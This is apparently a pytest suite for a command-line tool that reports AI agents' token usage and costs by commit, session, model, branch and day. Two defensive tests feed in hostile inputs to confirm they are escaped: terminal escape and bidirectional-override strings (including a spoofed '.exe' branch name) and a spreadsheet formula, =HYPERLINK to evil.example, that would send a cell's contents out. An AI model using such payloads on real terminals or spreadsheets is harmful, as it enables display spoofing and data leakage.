from __future__ import annotations

import csv
import io
import json
import math

from testing.util import append_spool, commit, message_record, periscope, session_record


def test_report_by_commit_adds_up_exactly_to_the_spool(repo):
    costs = [0.1, 0.2, 0.3, 0.0123, 1e-7]
    recs = [message_record(repo.path, tokens=(i + 1, 2 * i, i % 2, 3, 4), cost=c) for i, c in enumerate(costs)]
    append_spool(repo.path, *recs[:3])
    a = commit(repo.path, "a")
    append_spool(repo.path, *recs[3:])
    b = commit(repo.path, "b")
    rows = repo.report()
    assert [r["sha"] for r in rows] == [a, b]
    for r in rows:
        assert set(r) >= {"sha", "branch", "kind", "origin", "messages", "tokens", "cost"}
    assert rows[0]["cost"] == round(math.fsum(costs[:3]), 10)
    assert sum(r["tokens"]["input"] for r in rows) == sum(rec["tokens"]["input"] for rec in recs)
    assert round(math.fsum(r["cost"] for r in rows), 10) == round(math.fsum(costs), 10)


def test_report_other_groupings_and_formats(repo):
    append_spool(repo.path, session_record("s1", "First"), session_record("s2", "Sub", parent_id="s1"))
    append_spool(
        repo.path,
        message_record(repo.path, session_id="s1", model="m-a", provider="p1", cost=1.0),
        message_record(repo.path, session_id="s2", model="m-b", provider="p2", cost=2.0),
        message_record(repo.path, session_id="s1", model="m-a", provider="p1", cost=0.5),
    )
    commit(repo.path, "x")
    by_model = {r["model"]: r for r in repo.report("model")}
    assert by_model["m-a"]["messages"] == 2 and by_model["m-a"]["cost"] == 1.5 and by_model["m-b"]["provider"] == "p2"
    by_session = {r["session"]: r for r in repo.report("session")}
    # s2 is s1's sub-agent: rolled up into s1 and listed inside it
    assert list(by_session) == ["s1"] and by_session["s1"]["title"] == "First" and by_session["s1"]["messages"] == 3
    assert [(c["session"], c["is_subagent"]) for c in by_session["s1"]["subagents"]] == [("s2", True)]
    assert [r["branch"] for r in repo.report("branch")] == ["main"]
    days = repo.report("day")
    assert len(days) == 1 and days[0]["messages"] == 3
    out = periscope("report", "--by", "model", "--format", "csv", cwd=repo.path).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["model"] for r in rows} == {"m-a", "m-b", "total"} and "cache_write" in rows[0]
    assert rows[-1]["model"] == "total" and rows[-1]["messages"] == "3" and rows[-1]["cost"] == "3.5"
    table = periscope("report", cwd=repo.path).stdout
    assert "sha" in table.splitlines()[0] and "human" in table


def test_report_outside_a_repository_and_when_empty(tmp_path):
    assert json.loads(periscope("report", "--format", "json", cwd=tmp_path).stdout) == []
    assert "no AI usage" in periscope("report", cwd=tmp_path).stdout


def test_bad_usage_exits_2(tmp_path):
    assert periscope("report", "--by", "planet", cwd=tmp_path, check=False).returncode == 2


# --- list prices, sources, sub-agents, time windows, totals (issue 13) -------------------------------
DAY = 86_400_000
T0 = 1764547200000  # 2025-12-01T00:00:00Z


def test_every_grouping_has_the_list_price_and_the_source_mix(repo):
    append_spool(
        repo.path,
        # claude-sonnet-4 ($3 / $15 per Mtok): 1000 in + 100 out = 4,500 micro-dollars
        message_record(repo.path, tokens=(1000, 100, 0, 0, 0), cost=0.0045),
        message_record(repo.path, provider="github-copilot", tokens=(1000, 100, 0, 0, 0), cost=0),
        message_record(repo.path, model="no-such-model", tokens=(5, 5, 0, 0, 0), cost=None),
    )
    commit(repo.path, "x")
    for by in ("commit", "model", "branch", "session", "day"):
        rows = repo.report(by)
        assert sum(r["list_cost"] or 0 for r in rows) == 0.009, by
        mix = {k: sum(r["cost_sources"][k] for r in rows) for k in rows[0]["cost_sources"]}
        assert mix == {"reported": 1, "estimated": 0, "subscription": 1, "unknown": 1}, by
        table = periscope("report", "--by", by, cwd=repo.path).stdout.splitlines()
        assert "list_cost" in table[0] and "sources" in table[0], by
        assert table[-1].startswith("total") and "0.0090" in table[-1], by
        assert "reported 1, subscription 1, unknown 1" in table[-1], by
    (row,) = repo.report("commit")
    assert row["date"] and len(row["date"]) == len("2025-12-01 00:00")
    # A row none of whose messages has a list price shows none (null, a blank cell), not 0.
    assert {r["model"]: r["list_cost"] for r in repo.report("model")}["no-such-model"] is None


def test_a_model_not_in_the_price_table_has_no_list_cost_even_with_a_reported_cost(repo):
    """The row's list cost was blank only when no message had a cost source: a model the table
    does not know, with the cost the agent reported (a `reported` message), showed a list cost of
    0 in every view, where docs/cost.md promises none."""
    append_spool(
        repo.path,
        *(message_record(repo.path, model="my-finetune", provider="ollama", cost=0.5) for _ in range(3)),
        message_record(repo.path, tokens=(1000, 100, 0, 0, 0), cost=0.0045),  # claude-sonnet-4: 4,500 micro
    )
    sha = commit(repo.path, "x")
    append_spool(repo.path, message_record(repo.path, model="my-finetune", provider="ollama", cost=0.5))
    only_unknown = commit(repo.path, "y", filename="y.txt")
    by_model = {r["model"]: r for r in repo.report("model")}
    assert by_model["my-finetune"]["list_cost"] is None and by_model["claude-sonnet-4"]["list_cost"] == 0.0045
    by_commit = {r["sha"]: r["list_cost"] for r in repo.report("commit")}
    assert by_commit == {sha: 0.0045, only_unknown: None}
    table = periscope("report", "--by", "model", cwd=repo.path).stdout.splitlines()
    unknown_row = next(line for line in table if line.startswith("my-finetune"))
    assert "0.0000" not in unknown_row and "2.0000" in unknown_row, unknown_row
    csv_rows = list(
        csv.DictReader(io.StringIO(periscope("report", "--by", "commit", "--format", "csv", cwd=repo.path).stdout))
    )
    assert [r["list_cost"] for r in csv_rows] == ["0.0045", "", "0.0045"]  # the two commits, the total


def test_sessions_whose_parents_close_a_cycle_are_counted_once(repo):
    """Session records a -> b and b -> a: each was rolled into the other, so `--by session` counted
    both messages twice (a consistency sweep); a cycle's root is its smallest id, from either start."""
    append_spool(
        repo.path,
        message_record(repo.path, id="in-a", session_id="ses_a", cost=0.1),
        message_record(repo.path, id="in-b", session_id="ses_b", cost=0.2),
        session_record("ses_a", parent_id="ses_b"),
        session_record("ses_b", parent_id="ses_a"),
        session_record("ses_c", parent_id="ses_c"),  # its own parent
        message_record(repo.path, id="in-c", session_id="ses_c", cost=0.4),
    )
    commit(repo.path, "c")
    by_session = repo.report("session")
    by_model = repo.report("model")
    assert sum(r["messages"] for r in by_session) == sum(r["messages"] for r in by_model) == 3
    assert math.isclose(sum(r["cost"] for r in by_session), 0.7)
    assert sorted(r["session"] for r in by_session) == ["ses_a", "ses_c"]


def test_sub_agent_sessions_roll_up_into_their_parent(repo):
    append_spool(
        repo.path,
        session_record("root", "Build the thing"),
        session_record("child", "explore", parent_id="root"),
        session_record("grandchild", "grep", parent_id="child"),
        session_record("other", "Unrelated"),
        message_record(repo.path, session_id="root", tokens=(1000, 0, 0, 0, 0), cost=0.003),
        message_record(repo.path, session_id="child", tokens=(2000, 0, 0, 0, 0), cost=0.006),
        message_record(repo.path, session_id="grandchild", tokens=(3000, 0, 0, 0, 0), cost=0.009),
        message_record(repo.path, session_id="other", tokens=(4000, 0, 0, 0, 0), cost=0.012),
        # a sub-agent whose parent has no message of its own
        session_record("orphan-child", "task", parent_id="quiet-parent"),
        message_record(repo.path, session_id="orphan-child", tokens=(500, 0, 0, 0, 0), cost=0.0015),
    )
    commit(repo.path, "x")
    rows = {r["session"]: r for r in repo.report("session")}
    assert list(rows) == ["root", "other", "quiet-parent"]
    root = rows["root"]
    assert (root["messages"], root["tokens"]["input"], root["cost"], root["list_cost"]) == (3, 6000, 0.018, 0.018)
    assert root["subagent_share"] == {
        "messages": 2,
        "tokens": {"input": 5000, "output": 0, "reasoning": 0, "cache_read": 0, "cache_write": 0},
        "cost": 0.015,
        "list_cost": 0.015,
        "cost_sources": {"reported": 2, "estimated": 0, "subscription": 0, "unknown": 0},
        "sessions": 2,
    }
    assert [c["session"] for c in root["subagents"]] == ["child", "grandchild"]
    assert "subagents" not in rows["other"] and rows["other"]["messages"] == 1
    assert rows["quiet-parent"]["messages"] == 1 and rows["quiet-parent"]["subagent_share"]["messages"] == 1
    # Rows add up to everything once: the children are inside their parents, not beside them.
    assert sum(r["messages"] for r in rows.values()) == 5
    table = periscope("report", "--by", "session", cwd=repo.path).stdout.splitlines()
    assert any(line.startswith("  > child") for line in table)
    assert table[-1].split()[:2] == ["total", "5"]
    csv_rows = list(
        csv.DictReader(io.StringIO(periscope("report", "--by", "session", "--format", "csv", cwd=repo.path).stdout))
    )
    assert csv_rows[0]["subagents_cost"] == "0.015" and csv_rows[-1]["messages"] == "5"


def test_since_and_until(repo):
    append_spool(
        repo.path,
        message_record(repo.path, time=T0 + 1000, cost=1.0),
        message_record(repo.path, time=T0 + DAY + 1000, cost=2.0),
        message_record(repo.path, time=T0 + 2 * DAY + 1000, cost=4.0),
    )
    commit(repo.path, "x")

    def costs(by, *args):
        return [
            r["cost"]
            for r in json.loads(periscope("report", "--by", by, "--format", "json", *args, cwd=repo.path).stdout)
        ]

    assert costs("day") == [1.0, 2.0, 4.0]
    assert costs("day", "--since", "2025-12-02") == [2.0, 4.0]
    assert costs("day", "--until", "2025-12-02") == [1.0, 2.0]  # a date includes its whole day
    assert costs("model", "--since", "2025-12-02", "--until", "2025-12-02") == [2.0]
    assert costs("model", "--since", "2025-12-02T00:00:02Z") == [4.0]
    # commits by their date (today's commit): everything or nothing
    assert costs("commit", "--since", "2000-01-01") == [7.0] and costs("commit", "--until", "2000-01-01") == []
    assert (
        "no AI usage recorded yet in that time window"
        in periscope("report", "--until", "2000-01-01", cwd=repo.path).stdout
    )
    bad = periscope("report", "--since", "last tuesday", cwd=repo.path, check=False)
    assert (
        bad.returncode == 1
        and bad.stderr.startswith("error: --since 'last tuesday' is not a date")
        and "hint:" in bad.stderr
    )
    # the day after 9999-12-31 is in year 10000, which strftime/strptime could not write and read back
    assert costs("day", "--until", "9999-12-31") == [1.0, 2.0, 4.0]
    backwards = periscope("report", "--since", "2025-12-03", "--until", "2025-12-01", cwd=repo.path, check=False)
    assert backwards.returncode == 1 and backwards.stderr.count("\n") == 1
    assert backwards.stderr.startswith("error: --until '2025-12-01' is not after --since '2025-12-03' hint: ")


def test_a_long_first_ingest_is_announced_and_a_short_one_is_not(tmp_path):
    """`report` and `status` ingest the spool first: for a long history that is a minute or more of
    silence the first time, so they say what they are doing (stderr; the report itself unchanged)."""
    from testing import history
    from testing.util import state_dir

    repo = tmp_path / "r"
    shas = history.make_commits(repo, 2_400)
    history.write_history(state_dir(repo) / "spool.jsonl", 24_000, 20, str(repo.resolve()), shas)
    first = periscope("report", "--by", "model", "--format", "json", cwd=repo)
    megabytes = round((state_dir(repo) / "spool.jsonl").stat().st_size / 1e6)
    assert (
        first.stderr
        == f"ingesting {megabytes:,} MB of new records first (a long history takes a while the first time)\n"
    )
    assert sum(r["messages"] for r in json.loads(first.stdout)) == 24_000
    again = periscope("report", "--by", "model", "--format", "json", cwd=repo)
    assert again.stderr == "" and again.stdout == first.stdout
    assert periscope("status", cwd=repo).stderr == ""
    # The dashboard reads through the same ingest: it says so too.
    history.write_history(state_dir(repo) / "spool.jsonl", 24_000, 20, str(repo.resolve()), shas, start=24_000)
    dash = periscope("dashboard", "--format", "json", cwd=repo)
    assert dash.stderr.startswith("ingesting ") and json.loads(dash.stdout)["totals"]["messages"] == 48_000


def test_a_title_with_a_line_break_stays_on_its_row_in_the_table(repo):
    """Titles come from the agent's plugin; one with a line break split its row in two."""
    append_spool(
        repo.path, session_record("ses_nl", "first line\nsecond line"), message_record(repo.path, session_id="ses_nl")
    )
    commit(repo.path, "c1")
    lines = periscope("report", "--by", "session", cwd=repo.path).stdout.splitlines()
    assert len(lines) == 3 and "first line\\nsecond line" in lines[1], lines  # header, the session, total


def test_wide_characters_keep_the_table_columns_aligned(repo):
    """Columns were padded by len(): a title or branch in Chinese or Japanese, or with an emoji
    (two terminal columns a character), shifted the rest of its row."""
    from periscope_hooks.output import width

    append_spool(
        repo.path,
        session_record("ses_wide", "日本語のタイトル 🚀"),
        message_record(repo.path, session_id="ses_wide"),
        session_record("ses_ascii", "plain"),
        message_record(repo.path, session_id="ses_ascii"),
    )
    repo.git("switch", "-q", "-c", "機能/ワイド")
    commit(repo.path, "c1")
    for by, header, value in (
        ("session", "is_subagent", " False "),
        ("commit", "kind", " commit "),
        ("branch", "messages", " 2 "),
    ):
        lines = periscope("report", "--by", by, cwd=repo.path).stdout.splitlines()
        starts = {width(lines[0][: lines[0].index(header)])}
        starts |= {width(line[: line.index(value) + 1]) for line in lines[1:-1]}  # not the total row
        assert len(starts) == 1, (by, lines)


def test_the_shipped_share_gives_the_list_price_where_the_reported_cost_tells_another_story():
    from periscope_hooks.reconcile import shipped_share

    # Reported costs alone, list prices equal or unknown: as before.
    assert shipped_share([0.3, 0.1], [0.3, 0.1], [True, False]) == "$0.3000 (75%)"
    assert shipped_share([0.3, 0.1], [None, None], [True, False]) == "$0.3000 (75%)"
    # Claude Code reports no cost: the totals row said "$0.0000" whatever shipped.
    assert shipped_share([0.0, 0.0], [0.02, 0.06], [True, False]) == "$0.0000, list $0.0200 (25%)"
    # A mix: both figures, each with its own share; an unpriced commit counts 0 at list price.
    assert shipped_share([0.1, 0.0, 0.5], [0.1, 0.3, None], [True, True, False]) == (
        "$0.1000 (17%), list $0.4000 (100%)"
    )


def test_a_terminal_that_cannot_show_a_name_gets_question_marks_not_a_half_report(repo):
    # Under a Latin-1 locale a model named with a check mark and Chinese stopped `report --by
    # model` after its header line: UnicodeEncodeError.

    append_spool(repo.path, message_record(repo.path, model="mödel-✓-模型"))
    commit(repo.path, "x")
    import os
    import subprocess
    import sys

    proc = subprocess.run(
        [sys.executable, "-m", "periscope_hooks", "report", "--by", "model"],
        cwd=repo.path,
        env={**os.environ, "PYTHONIOENCODING": "latin-1"},
        capture_output=True,
    )
    out = proc.stdout.decode("latin-1")
    assert proc.returncode == 0, proc.stderr
    assert "mödel-?-??" in out and out.splitlines()[-1].startswith("total")


def test_names_cannot_drive_the_terminal_in_any_table(repo):
    """A title, model or branch holding a terminal escape (ESC, BEL, CR), a line break or a
    bidirectional override (U+202E reverses the rest of a cell; git allows it in a branch) is
    printed escaped in every table: the commit table printed its branch raw."""
    append_spool(
        repo.path,
        session_record("ses_evil", "t\x1b]0;PWNED\x07\x1b[2J\r\u202eevil\u2066"),
        message_record(repo.path, session_id="ses_evil", model="m\x1b[31mred\u200b"),
    )
    repo.git("switch", "-q", "-c", "fix-\u202egnp.exe")
    commit(repo.path, "c1")
    for by in ("commit", "session", "model", "branch"):
        out = periscope("report", "--by", by, cwd=repo.path).stdout
        assert not any(ch in out for ch in "\x1b\x07\r\u202e\u2066\u200b"), (by, out)
        assert len(out.splitlines()) == 3, (by, out)  # header, the row, total
    assert "fix-\\u202egnp.exe" in periscope("report", cwd=repo.path).stdout
    assert (
        "t\\x1b]0;PWNED\\x07\\x1b[2J\\r\\u202eevil\\u2066"
        in periscope("report", "--by", "session", cwd=repo.path).stdout
    )


def test_csv_cells_a_spreadsheet_would_run_are_text_and_a_carriage_return_stays_in_its_cell(repo):
    """A title or branch starting with = + - @ (a spreadsheet formula: =HYPERLINK, a DDE call)
    is written with a leading ' (OWASP's advice); model ids are kept exactly (a real one starts
    with @).  A cell holding a bare carriage return is quoted: csv quotes only the line
    terminator's characters, and "\\r" ended the row there for every reader."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    append_spool(
        repo.path,
        session_record("ses_f", evil),
        message_record(repo.path, session_id="ses_f", model="@cf/meta/llama-3.1-8b-instruct", git={"branch": "=1+1"}),
        session_record("ses_r", "\r=1+1"),
        message_record(repo.path, session_id="ses_r", git={"branch": "=1+1"}),
    )
    repo.git("switch", "-q", "-c", "=1+1")
    commit(repo.path, "c1")
    cells = {}
    for by in ("commit", "session", "model", "branch"):
        text = periscope("report", "--by", by, "--format", "csv", cwd=repo.path).stdout
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len({len(r) for r in rows}) == 1, (by, rows)  # no row cut short by a "\r"
        cells[by] = [c for r in rows[1:] for c in r]
    assert "'" + evil in cells["session"] and "'\r=1+1" in cells["session"]
    assert "'=1+1" in cells["commit"] and "'=1+1" in cells["branch"]
    assert "@cf/meta/llama-3.1-8b-instruct" in cells["model"]
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for by in ("commit", "session", "branch") for c in cells[by])
